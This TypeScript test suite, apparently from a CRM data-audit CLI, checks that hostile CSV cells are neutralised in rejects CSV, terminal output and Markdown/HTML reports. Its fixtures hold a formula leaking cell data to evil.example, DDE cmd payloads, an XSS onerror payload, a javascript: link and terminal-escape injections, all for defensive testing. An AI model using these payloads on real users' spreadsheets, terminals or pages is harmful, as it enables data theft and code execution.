/**
 * Every way a hostile cell could act on the person reading the output:
 * - the --rejects CSV neutralises cells a spreadsheet would run as a formula (= + - @ tab CR);
 * - terminal output strips ANSI escape sequences, C0/C1 control characters and bidi overrides;
 * - the Markdown and HTML reports escape them (tested here only end to end with hostile data;
 *   their own suites test the escaping functions).
 */
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAudit } from '../../src/audit/run.js';
import type { AuditReport } from '../../src/audit/contract.js';
import { buildDataset } from '../../src/ingest/dataset.js';
import { readTable } from '../../src/ingest/read-table.js';
import type { FileReport } from '../../src/base/model.js';
import { csvCell, neutralizeCell, renderRejectsCsv } from '../../src/report/rejects-csv.js';
import { safeText } from '../../src/report/text.js';
import { renderHtml } from '../../src/report/html.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { hasStackTrace, runCliAsync, tempDir } from '../helpers/cli.js';

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  plus: '+cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  img: '<img src=x onerror=alert(1)>',
  mdLink: '| [x](javascript:alert(1))',
  clear: '\u001b[2J\u001b[1;31mPWNED\u001b[0m',
  osc: '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  c1: '\u009b31mred',
  bidi: 'invoice\u202egnp.exe',
  bell: 'ding\u0007\u0008\u007f',
};

/** Control characters a terminal acts on (tab and newline are layout, not control). */
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function reportWithRejects(cells: readonly string[][]): FileReport {
  return {
    kind: 'deals',
    path: 'deals.csv',
    preset: 'generic',
    delimiter: ',',
    header: [],
    mapping: {},
    rows: { read: cells.length, used: 0, rejected: cells.length },
    rejectedByReason: { invalid_amount: cells.length },
    rejects: cells.map((c, i) => ({ line: i + 2, column: 'amount', columnIndex: 2, value: c[1] ?? null, code: 'invalid_amount' as const, reason: `amount is "${c[1] ?? ''}"`, cells: c })),
    warnings: [],
    dateRange: null,
    dateOrder: null,
  };
}

describe('--rejects CSV: formula injection', () => {
  it.each([
    ['=', HOSTILE.formula],
    ['+', HOSTILE.plus],
    ['-', HOSTILE.minus],
    ['@', HOSTILE.at],
    ['tab', HOSTILE.tab],
    ['CR', HOSTILE.cr],
  ])('a cell starting with %s gets a leading apostrophe', (_what, value) => {
    expect(neutralizeCell(value)).toBe(`'${value}`);
    const rendered = csvCell(value);
    const [[back]] = parse(rendered, { relax_quotes: true }) as string[][] as [[string]];
    expect(back).toBe(`'${value}`);
  });

  it.each([
    ['leading space', ' =1+1', "' =1+1"],
    ['leading newline', '\n=1+1', "'\n=1+1"],
    ['leading no-break and ideographic spaces', '\u00a0\u3000+1', "'\u00a0\u3000+1"],
    ['full-width equals', '＝1+1', "'＝1+1"],
    ['full-width plus', '＋1', "'＋1"],
    ['full-width minus', '－1', "'－1"],
    ['full-width at', '＠SUM(A1)', "'＠SUM(A1)"],
    ['small form equals', '﹦1+1', "'﹦1+1"],
    ['semicolon first (no formula; quoted, so no new cell in a ;-locale)', ';=1+1', ';=1+1'],
  ])('formula guard after trimming and normalising: %s', (_what, value, expected) => {
    expect(neutralizeCell(value)).toBe(expected);
  });

  it.each([
    ['plain', 'Acme', '"Acme"'],
    ['empty', '', '""'],
    ['semicolon', 'a;=1+1', '"a;=1+1"'],
    ['tab inside', 'a\t=1+1', '"a\t=1+1"'],
    ['quote', 'say "hi"', '"say ""hi"""'],
    ['formula', '=1+1', '"\'=1+1"'],
  ])('every cell is quoted: %s', (_what, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves other cells as they are (HTML and Markdown are not formulas)', () => {
    for (const v of [HOSTILE.img, HOSTILE.mdLink, 'Acme', '12,500.00', 'a=1', ';x']) expect(neutralizeCell(v)).toBe(v);
  });

  it('property: no parsed cell of the rejects CSV starts a formula, and the apostrophe is the only change', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(fc.string({ unit: 'binary', maxLength: 8 }), fc.constantFrom(...Object.values(HOSTILE))), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const csv = renderRejectsCsv([reportWithRejects(rows)]);
          const parsed = parse(csv, { relax_column_count: true }) as string[][];
          expect(parsed.length).toBe(rows.length + 1);
          rows.forEach((row, i) => {
            const out = (parsed[i + 1] as string[]).slice(5, 5 + row.length);
            row.forEach((cell, j) => {
              const got = out[j] as string;
              expect(/^[=+\-@\t\r]/.test(got)).toBe(false);
              expect(got === cell || got === `'${cell}`).toBe(true);
            });
          });
        },
      ),
      { numRuns: 100, seed: 20260517 },
    );
  });

  it('end to end: validate --rejects writes the hostile row neutralised', async () => {
    const dir = tempDir({
      'deals.csv': `id,amount,stage,created,closed,name\nD1,100,Won,2025-01-01,2025-01-05,ok\nD2,"${HOSTILE.formula.replace(/"/g, '""')}",Won,2025-01-01,2025-01-05,"${HOSTILE.img}"\nD3,@SUM(A1),Won,2025-01-01,2025-01-05,"${HOSTILE.mdLink}"\n`,
    });
    try {
      const out = join(dir, 'rejects.csv');
      const r = await runCliAsync(['validate', dir, '--rejects', out]);
      expect(r.code).toBe(0);
      const rows = parse(readFileSync(out, 'utf8')) as string[][];
      const cells = rows.flat();
      expect(cells).toContain(`'${HOSTILE.formula}`);
      expect(cells).toContain(`'@SUM(A1)`);
      expect(cells).toContain(HOSTILE.img);
      expect(cells).toContain(HOSTILE.mdLink);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('terminal output: escape sequences and control characters', () => {
  it.each(Object.entries(HOSTILE))('safeText removes what a terminal would act on: %s', (_name, value) => {
    const out = safeText(value);
    expect(out).not.toMatch(TERMINAL_CONTROL);
    expect(out).not.toContain('\u001b');
  });

  it('keeps the readable text', () => {
    expect(safeText(HOSTILE.clear)).toBe('PWNED');
    expect(safeText(HOSTILE.osc)).toBe('click');
    expect(safeText(HOSTILE.bidi)).toBe('invoicegnp.exe');
    expect(safeText('line one\nline two')).toBe('line one line two');
  });

  it('property: no control character survives, printable text is untouched', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string({ unit: 'binary', maxLength: 10 }), fc.constantFrom(...Object.values(HOSTILE), '\u001b[', '\u001b]', '\u001b')), { maxLength: 6 }), (parts) => {
        const out = safeText(parts.join(''));
        expect(out).not.toMatch(TERMINAL_CONTROL);
        expect(out).not.toContain('\n');
      }),
      { numRuns: 300, seed: 20260517 },
    );
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 30 }), (s) => {
        if (!TERMINAL_CONTROL.test(s) && !s.includes('\n')) expect(safeText(s)).toBe(s);
      }),
      { numRuns: 200, seed: 20260517 },
    );
  });

  describe('end to end through the binary', () => {
    let dir: string;
    beforeAll(() => {
      const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
      dir = tempDir({
        'deals.csv':
          'id,amount,stage,created,closed,owner,source\n' +
          `D1,1000,Closed Won,2025-01-05,2025-02-01,${q(HOSTILE.clear)},${q(HOSTILE.osc)}\n` +
          `D2,2000,Closed Lost,2025-01-06,2025-02-02,${q(HOSTILE.bidi)},${q(HOSTILE.c1)}\n` +
          `D3,${q(HOSTILE.clear)},Closed Won,2025-01-07,2025-02-03,Ann,Web\n` +
          `D4,500,${q(HOSTILE.osc)},2025-01-08,2025-02-04,Ann,Web\n` +
          `D5,700,Closed Won,2025-01-09,2025-02-05,${q(HOSTILE.bell)},Web\n`,
        'revhealth.config.json': JSON.stringify({ company: { name: `${HOSTILE.clear} Evil Corp ${HOSTILE.bidi}` } }),
      });
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    it.each([
      ['validate', [], 'PWNED'],
      ['audit', ['--by', 'owner', '--as-of', '2025-06-30'], 'PWNED'],
      ['metrics', ['--by', 'source', '--as-of', '2025-06-30'], 'click'],
    ])('%s prints no escape sequence or control character from the data', async (command, extra, visible) => {
      const r = await runCliAsync([command, dir, ...(extra as string[])]);
      expect(r.code).toBe(0);
      expect(r.stdout.length).toBeGreaterThan(100);
      for (const text of [r.stdout, r.stderr]) {
        const bad = [...text].filter((c) => TERMINAL_CONTROL.test(c)).map((c) => `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
        expect(bad).toEqual([]);
      }
      expect(r.stdout).toContain(visible);
    });

    it('an error message quoting a hostile header or config key prints no escape sequence', async () => {
      const bad = tempDir({
        'deals.csv': `id,${HOSTILE.clear},stage\nD1,1,Won\n`,
        'revhealth.config.json': JSON.stringify({ targets: { quotas: { [HOSTILE.clear]: -5 } } }),
      });
      try {
        for (const args of [['validate', bad, '--config', join(dir, 'revhealth.config.json')], ['validate', bad]]) {
          const r = await runCliAsync(args);
          expect(r.code).toBe(2);
          expect(hasStackTrace(r.stderr)).toBe(false);
          expect(r.stderr).not.toMatch(TERMINAL_CONTROL);
          expect(r.stderr).toMatch(/^error/m);
        }
      } finally {
        rmSync(bad, { recursive: true, force: true });
      }
    });
  });
});

// imported, not probed: a renamed renderer fails these tests instead of skipping them
describe('Markdown and HTML reports with hostile data', () => {

  async function hostileReport(): Promise<AuditReport> {
    const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
    const rows = Object.values(HOSTILE).map(
      (v, i) => `D${i},${1000 + i * 100},${i % 3 === 0 ? 'Closed Lost' : 'Closed Won'},2025-0${1 + (i % 6)}-05,2025-0${2 + (i % 6)}-01,${q(v)},${q(v)},${q(v)}`,
    );
    const text = `id,amount,stage,created,closed,owner,source,account\n${rows.join('\n')}\nD99,${q(HOSTILE.img)},${q(HOSTILE.mdLink)},2025-01-01,2025-01-02,x,y,z\n`;
    const read = await readTable('deals', `deals ${HOSTILE.mdLink}.csv`, (async function* () { yield Buffer.from(text); })(), { config: {} });
    if (!read.ok) throw new Error(read.problems[0]?.message);
    const result = runAudit(buildDataset({ deals: { records: read.records, report: read.report } }), { company: { name: `${HOSTILE.img} ${HOSTILE.mdLink}` } }, { toolVersion: 'test', asOf: '2025-09-30', by: 'owner' });
    if (!result.ok) throw new Error(result.problems[0]?.message);
    return result.report;
  }

  it('Markdown: no raw HTML, no live link, no table break, no escape sequence', async () => {
    const md = renderMarkdown(await hostileReport());
    expect(md).not.toContain('<img');
    expect(md).toContain('&lt;img');
    expect(md).not.toMatch(/(^|[^\\])\[x\]\(javascript:/m);
    expect(md).not.toMatch(/(^|[^\\])\]\(javascript:/m);
    expect(md).not.toMatch(/^\s*=HYPERLINK/m);
    expect(md).not.toMatch(TERMINAL_CONTROL);
    // the hostile pipe is escaped wherever the value appears
    expect(md).not.toMatch(/[^\\]\| \\\[x\\\]/);
  });

  it('HTML: CSP, no script, no live markup or javascript: URL from the data', async () => {
    const page = renderHtml(await hostileReport());
    expect(page).toMatch(/<meta http-equiv="Content-Security-Policy" content="[^"]*default-src 'none'/);
    expect(page).not.toMatch(/<script/i);
    expect(page).not.toContain('<img src=x');
    expect(page).not.toMatch(/<[^>]*\sonerror\s*=/i);
    expect(page).not.toMatch(/(href|src)\s*=\s*["']?\s*javascript:/i);
    expect(page).not.toMatch(TERMINAL_CONTROL);
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
